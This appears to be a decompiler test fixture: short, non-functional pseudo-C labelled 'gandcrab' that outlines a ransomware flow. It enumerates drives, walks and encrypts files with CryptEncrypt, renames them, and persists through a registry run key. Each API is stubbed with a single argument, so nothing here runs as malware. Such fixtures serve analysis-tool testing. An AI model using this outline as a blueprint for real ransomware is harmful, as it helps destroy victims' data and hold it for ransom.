// gandcrab: decompiler fixture output
#include <windows.h>

int32_t main(void *arg)
{
    int32_t v1 = 0;
    if (enumerate_drives(arg) == 0) {
        return -1;
    }
    v1 = persist_run_key(arg);
    return v1;
}

int32_t enumerate_drives(void *arg)
{
    int32_t v1 = 0;
    if (GetLogicalDrives(arg) == 0) {
        return -1;
    }
    v1 = encrypt_tree(arg);
    return v1;
}

int32_t encrypt_tree(void *arg)
{
    int32_t v1 = 0;
    if (FindFirstFileW(arg) == 0) {
        return -1;
    }
    v1 = FindNextFileW(arg);
    if (encrypt_file(arg) == 0) {
        return -1;
    }
    return v1;
}

int32_t encrypt_file(void *arg)
{
    int32_t v1 = 0;
    if (CreateFileW(arg) == 0) {
        return -1;
    }
    v1 = ReadFile(arg);
    if (CryptEncrypt(arg) == 0) {
        return -1;
    }
    v1 = WriteFile(arg);
    if (MoveFileExW(arg) == 0) {
        return -1;
    }
    return v1;
}

int32_t init_crypto(void *arg)
{
    int32_t v1 = 0;
    if (CryptAcquireContextW(arg) == 0) {
        return -1;
    }
    v1 = CryptGenKey(arg);
    return v1;
}

int32_t persist_run_key(void *arg)
{
    int32_t v1 = 0;
    if (RegSetValueExW(arg) == 0) {
        return -1;
    }
    return v1;
}
